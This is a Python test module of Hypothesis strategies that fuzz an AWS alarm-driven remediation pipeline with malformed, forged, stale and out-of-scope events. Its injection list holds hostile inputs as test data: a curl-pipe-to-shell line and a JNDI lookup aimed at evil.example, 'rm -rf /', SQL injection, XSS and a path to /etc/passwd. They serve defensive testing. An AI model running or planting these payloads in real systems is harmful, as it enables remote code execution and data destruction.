"""Hypothesis strategies for hostile input: every event shape the remediators accept, broken.

Each strategy yields events that must be rejected: the alarm and budget names are never in
the playbook the tests use, and a manual request always has at least one thing wrong.
Junk comes mostly from one flat list (one draw each), which keeps 10,000 cases fast.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass

from hypothesis import strategies as st

from tests.conftest import load_event

KNOWN_TARGET = "arn:aws:lambda:eu-west-1:123456789012:function:orders:live"
KNOWN_ALARM, KNOWN_BUDGET = "test-orders-error-rate", "test-monthly"
PLAYBOOK = {
    "alarms": {KNOWN_ALARM: {"action": "rollback", "target": KNOWN_TARGET}},
    "budgets": {KNOWN_BUDGET: {"action": "rollback", "target": KNOWN_TARGET}},
}

# What attackers and accidents put in names and reasons.
INJECTIONS = [
    "'; DROP TABLE remediation; --",
    '" OR "1"="1',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "$(curl evil.example | sh)",
    "`id`; rm -rf /",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\x00\x01\x02\x1b[31mred",
    "line\r\nSet-Cookie: pwned=1",
    "%s%s%s%n%x",
    "attribute_not_exists(pk) OR 1=1",
    "#until <= :now",
    KNOWN_TARGET,
    "AWS Budgets: prod has exceeded your alert threshold",
    '{"action": "rollback", "target": "*"}',
    "\ud800\udfff lone surrogates \udc00",
    "\u202eevil\u202c right-to-left",
    "🔥💥" * 20,
    "Ω≈ç√∫µ≤≥÷ 田中さんにあげて下さい \u02dc",
    "[" * 5000,  # deeper than json.loads can go
    '{"a":' * 3000,
    "NaN",
    "null",
    "*",
    "",
    " ",
]
HUGE = ["A" * 256, "B" * 1025, "C" * 2049, "D" * 70_000, "🔥" * 100_000, "\u0301" * 5000]
JUNK = [
    None,
    True,
    False,
    0,
    -1,
    2**70,
    1.5,
    float("nan"),
    float("inf"),
    [],
    {},
    [None, 1, "x"],
    {"a": {"b": [1, {"c": None}]}},
    {"Sns": {}},
    {"Records": []},
    *INJECTIONS,
    *HUGE,
]
DELETE = object()  # marks a field to remove

text = st.one_of(st.sampled_from(INJECTIONS + HUGE), st.text(max_size=40))
junk = st.one_of(
    st.sampled_from(JUNK),
    st.text(max_size=30),
    st.integers(),
    st.floats(),
    st.lists(st.sampled_from(JUNK[:20]), max_size=3),
)
bad_names = st.one_of(text, st.sampled_from(INJECTIONS).map(lambda s: f"{KNOWN_ALARM}{s}")).filter(
    lambda name: name.strip() not in {KNOWN_ALARM, KNOWN_BUDGET}
)

_SNS = load_event("sns_alarm_single_metric.json")
_ALARM = load_event("cloudwatch_alarm_single_metric.json")
_DIRECT = load_event("lambda_alarm_action.json")


def envelope(message, subject) -> dict:
    event = copy.deepcopy(_SNS)
    event["Records"][0]["Sns"]["Message"] = message
    event["Records"][0]["Sns"]["Subject"] = subject
    return event


# Strategies are built once: hypothesis validates every new strategy object, which costs
# more than the draw itself.
FIELD_VALUE = st.one_of(st.just(DELETE), junk)
HOW = st.sampled_from(["json", "json", "ascii", "cut", "garbage", "other", "text"])
GARBAGE = st.sampled_from(["{", "}", '"', "\\", ",", "\x00"])
WRONG = st.sets(st.sampled_from(["action", "target", "params", "shape"]), min_size=1)
BAD_ACTION = st.one_of(junk, st.sampled_from(["revert", "ROLLBACK", "rollback "])).filter(
    lambda a: a != "rollback"
)
BAD_TARGET = st.one_of(junk, st.sampled_from(INJECTIONS).map(lambda s: KNOWN_TARGET + s)).filter(
    lambda t: t != KNOWN_TARGET
)
BAD_PARAMS = st.one_of(
    junk.filter(lambda v: not isinstance(v, dict)),
    st.builds(lambda k, v: {f"x{k}": v}, text, junk),
    st.sampled_from([{"window_minutes": v} for v in (0, -1, 10**9, "60", 60.5, True)]),
)
EXTRA_KEY = st.one_of(
    st.sampled_from(["source", "Records", "state", "dry-run", "Sns", "caller"]),
    text.map(lambda k: f"x-{k}"),
)
REQUIRED = st.sampled_from(["target", "reason", "requested_by"])
_FIELDS = {}


def corrupt(draw, obj: dict, most: int = 3) -> None:
    """Replace or delete up to ``most`` fields of ``obj`` with junk."""
    key = tuple(sorted(obj))
    names = _FIELDS.setdefault(key, st.sampled_from(key))
    for _ in range(draw(st.integers(0, most))):
        name = draw(names)
        value = draw(FIELD_VALUE)
        if value is DELETE:
            obj.pop(name, None)
        else:
            obj[name] = value


@st.composite
def message_text(draw, document: dict) -> str:
    """``document`` as JSON, or cut short, corrupted, not an object, or not JSON at all."""
    body = json.dumps(document, ensure_ascii=False)
    how = draw(HOW)
    if how == "json":
        return body
    if how == "ascii":
        return json.dumps(document)  # lone surrogates travel as \ud800 escapes
    if how == "cut":
        return body[: draw(st.integers(0, max(len(body) - 1, 0)))]
    if how == "garbage":
        at = draw(st.integers(0, len(body)))
        return body[:at] + draw(GARBAGE) + body[at:]
    if how == "other":
        return json.dumps(draw(junk))
    return draw(text)


@st.composite
def sns_alarms(draw) -> dict:
    """A CloudWatch alarm over SNS with a bad name and some fields replaced by junk."""
    alarm = copy.deepcopy(_ALARM)
    alarm["AlarmName"] = draw(bad_names)
    alarm["NewStateReason"] = draw(text)
    if draw(st.booleans()):  # an ARN that agrees with the bad name
        alarm["AlarmArn"] = alarm["AlarmArn"].rsplit(":", 1)[0] + ":" + alarm["AlarmName"]
    corrupt(draw, alarm)
    usual = f'ALARM: "{str(alarm.get("AlarmName"))[:60]}"'
    subject = usual if draw(st.booleans()) else draw(text)
    return envelope(draw(message_text(alarm)), subject)


@st.composite
def direct_alarms(draw) -> dict:
    """The Lambda alarm-action payload with a bad name and junk in places."""
    payload = copy.deepcopy(_DIRECT)
    payload["alarmData"]["alarmName"] = draw(bad_names)
    payload["alarmData"]["state"]["reason"] = draw(text)
    where = [payload, payload["alarmData"], payload["alarmData"]["state"]][draw(st.integers(0, 2))]
    corrupt(draw, where)
    return payload


@st.composite
def budgets(draw) -> dict:
    """An AWS Budgets notice for a budget the playbook does not know, or no name at all."""
    name = draw(bad_names)
    if draw(st.booleans()):
        subject = f"AWS Budgets: {name} has exceeded your alert threshold"
    else:
        subject = f"AWS Budgets: {name}"
    body = f"Budget Name: {name}\n" if draw(st.booleans()) else draw(text)
    return envelope(body, subject)


@st.composite
def manual_requests(draw) -> dict:
    """A manual request with at least one thing wrong (action, target, params or shape)."""
    request = {
        "action": "rollback",
        "target": KNOWN_TARGET,
        "params": {"window_minutes": 60},
        "reason": draw(text),
        "requested_by": draw(text),
    }
    wrong = draw(WRONG)
    if "action" in wrong:
        request["action"] = draw(BAD_ACTION)
    if "target" in wrong:
        request["target"] = draw(BAD_TARGET)
    if "params" in wrong:
        request["params"] = draw(BAD_PARAMS)
    if "shape" in wrong:
        if draw(st.booleans()):
            request[draw(EXTRA_KEY)] = draw(junk)
        else:
            request.pop(draw(REQUIRED))
    return request


any_event = st.one_of(
    junk,
    st.builds(lambda records: {"Records": records}, junk),
    st.builds(lambda sns: {"Records": [{"Sns": sns}]}, junk),
    sns_alarms(),
    direct_alarms(),
    budgets(),
    manual_requests(),
)


# -- forged or misdirected events (the scope figure) --------------------------------------
#
# Each strategy draws a ``Forgery``: what to send and how the emulated world stands, never an
# event an on-call engineer would act on. ``test_scope.py`` builds the event against its
# clock and the resources it made, sends it through the real pipeline and counts what acted.

OWN_ACCOUNT, OWN_REGION = "123456789012", "eu-west-1"
REGIONS = ["us-east-1", "us-west-2", "eu-central-1", "eu-west-2", "ap-southeast-2", "sa-east-1"]
PARTITIONS = [
    ("aws-cn", "cn-north-1"),
    ("aws-us-gov", "us-gov-west-1"),
    ("aws-iso", "us-iso-east-1"),
]
OTHER_ACCOUNTS = st.one_of(
    st.sampled_from(["111122223333", "999999999999", "000000000000", "123456789013"]),
    st.from_regex(r"\A[0-9]{12}\Z").filter(lambda a: a != OWN_ACCOUNT),
)
# Targets the test makes in the deployment's own account and region (see test_scope.py):
# kind -> (action, params, service, resource, suffix)
SCOPE_TARGETS = {
    "lambda alias": ("rollback", {}, "lambda", "function:orders:live", ""),
    "lambda function": (
        "capacity-bump",
        {"kind": "lambda-memory", "max_memory_mb": 1024},
        "lambda",
        "function:worker",
        "",
    ),
    "lambda variable": ("flip-flag", {}, "lambda", "function:hooks", "#WEBHOOK_ENABLED"),
    "ssm parameter": ("flip-flag", {}, "ssm", "parameter/orders/webhook-enabled", ""),
    "dynamodb table": (
        "capacity-bump",
        {"kind": "dynamodb-throughput", "max_read_units": 100, "max_write_units": 100},
        "dynamodb",
        "table/orders-table",
        "",
    ),
    "rest stage": ("rollback", {}, "apigateway", "/restapis/r1e2s3t4a5/stages/prod", ""),
    "waf ip set": (
        "waf-block",
        {"log_group": "/aws/apigateway/orders", "threshold": 1, "query": "fields @message"},
        "wafv2",
        "regional/ipset/blocked/a1b2c3d4-0000-4000-8000-00000000000a",
        "",
    ),
    "cost guard": (
        "cost-guard",
        {"sheddable": ["worker"], "max_reserved": 1},
        "lambda",
        "function:*",
        "",
    ),
}


@dataclass(frozen=True)
class Forgery:
    """One forged or misdirected event, described; ``bucket`` groups the figure."""

    bucket: str
    what: str
    path: str = "sns"  # sns | direct | budget | manual
    kind: str = "lambda alias"  # which target the route names (SCOPE_TARGETS)
    #: the target ARN's parts, when the route names an out-of-scope target
    target_parts: tuple[str, str, str] | None = None  # (partition, region, account)
    #: the alarm ARN's parts and what the message claims beside it
    alarm_parts: tuple[str, str, str] = ("aws", OWN_REGION, OWN_ACCOUNT)
    claimed_account: str | None = OWN_ACCOUNT  # AWSAccountId / accountId (None: absent)
    claimed_region: str | None = OWN_REGION  # direct payload ``region``
    state: str = "ALARM"
    #: seconds before the clock the transition claims to have happened (negative: future)
    age: int = 30
    #: how the emulated CloudWatch stands: agree | absent | other-state | earlier
    cloudwatch: str = "agree"
    budget_line: str | None = f"AWS Account {OWN_ACCOUNT}"


AGES = st.integers(1, 600)  # inside the 15 min an event may be acted on


@st.composite
def unconfirmed_alarms(draw) -> Forgery:
    """An alarm event CloudWatch does not confirm: the alarm is missing, in another state,
    or entered its state before the transition the event claims."""
    how = draw(st.sampled_from(["absent", "other-state", "earlier"]))
    path = draw(st.sampled_from(["sns", "direct"]))
    kind = draw(st.sampled_from(sorted(SCOPE_TARGETS)))
    return Forgery(
        "unconfirmed", f"{how} via {path} on {kind}", path, kind, cloudwatch=how, age=draw(AGES)
    )


@st.composite
def misdirected_alarms(draw) -> Forgery:
    """An alarm (which the emulated CloudWatch shows where it can) of another account,
    region or partition, or whose account or region claims disagree with its ARN."""
    how = draw(
        st.sampled_from(
            ["account", "region", "partition", "claimed account", "claimed region", "arn account"]
        )
    )
    path = "direct" if how == "claimed region" else draw(st.sampled_from(["sns", "direct"]))
    kind = draw(st.sampled_from(sorted(SCOPE_TARGETS)))
    other = draw(OTHER_ACCOUNTS)
    alarm, claimed, region = ("aws", OWN_REGION, OWN_ACCOUNT), OWN_ACCOUNT, OWN_REGION
    if how == "account":
        alarm, claimed = ("aws", OWN_REGION, other), draw(st.sampled_from([other, None]))
    elif how == "arn account":  # the ARN another account's, the claim ours
        alarm = ("aws", OWN_REGION, other)
    elif how == "region":
        where = draw(st.sampled_from(REGIONS))
        alarm, region = ("aws", where, OWN_ACCOUNT), where
    elif how == "partition":
        partition, where = draw(st.sampled_from(PARTITIONS))
        where = draw(st.sampled_from([where, OWN_REGION]))
        alarm, region = (partition, where, OWN_ACCOUNT), where
    elif how == "claimed account":
        claimed = other
    else:
        region = draw(st.sampled_from(REGIONS))
    return Forgery(
        "misdirected alarm",
        f"{how} ({alarm}, claims {claimed}/{region}) via {path} on {kind}",
        path,
        kind,
        alarm_parts=alarm,
        claimed_account=claimed,
        claimed_region=region,
    )


@st.composite
def stale_alarms(draw) -> Forgery:
    """A transition CloudWatch confirms but that is too old (or claims to be from the future):
    a message stuck in a queue, a redelivery, a replayed capture."""
    age = draw(st.one_of(st.integers(901, 30 * 24 * 3600), st.integers(-24 * 3600, -301)))
    path = draw(st.sampled_from(["sns", "direct"]))
    kind = draw(st.sampled_from(sorted(SCOPE_TARGETS)))
    return Forgery("stale", f"{age} s old via {path} on {kind}", path, kind, age=age)


@st.composite
def foreign_budgets(draw) -> Forgery:
    """An AWS Budgets notice for another account, or naming no account one can trust."""
    line = draw(
        st.one_of(
            OTHER_ACCOUNTS.map(lambda a: f"AWS Account {a}"),
            OTHER_ACCOUNTS.map(lambda a: f"AWS Account: {a}"),
            st.sampled_from(
                [
                    None,
                    "AWS Account",
                    f"AWS Account {OWN_ACCOUNT[:-1]}",  # 11 digits
                    f"AWS Account {OWN_ACCOUNT}0",  # 13 digits
                    f"Budget Name: AWS Account {OWN_ACCOUNT}",  # the right digits, wrong line
                    f"AWS Account x{OWN_ACCOUNT}",
                ]
            ),
        )
    )
    return Forgery(
        "budget", f"budget notice with {line!r}", "budget", "cost guard", budget_line=line
    )


@st.composite
def out_of_scope_targets(draw) -> Forgery:
    """A real, current alarm (or a manual request) whose route names a target of another
    account, region or partition, or one with no account: the playbook is data."""
    kind = draw(st.sampled_from(sorted(SCOPE_TARGETS)))
    path = draw(st.sampled_from(["sns", "direct", "manual"]))
    how = draw(st.sampled_from(["account", "region", "partition", "no account"]))
    partition, region, account = "aws", OWN_REGION, OWN_ACCOUNT
    if how == "account":
        account = draw(OTHER_ACCOUNTS)
    elif how == "region":
        region = draw(st.sampled_from(REGIONS))
    elif how == "partition":
        partition, other_region = draw(st.sampled_from(PARTITIONS))
        region = draw(st.sampled_from([other_region, OWN_REGION]))
    else:
        account = ""
    if kind == "rest stage":
        # A stage ARN carries no account: "no account" is its own form, and an ARN that
        # names one (even ours) is no stage ARN.
        if how == "no account":
            how, account = "account", draw(OTHER_ACCOUNTS)
        elif how != "account":
            account = ""
    return Forgery(
        "out-of-scope target",
        f"{kind} in {how} ({partition}, {region}, {account or 'none'}) via {path}",
        path,
        kind,
        target_parts=(partition, region, account),
    )


forgeries = st.one_of(
    unconfirmed_alarms(),
    misdirected_alarms(),
    stale_alarms(),
    foreign_budgets(),
    out_of_scope_targets(),
)
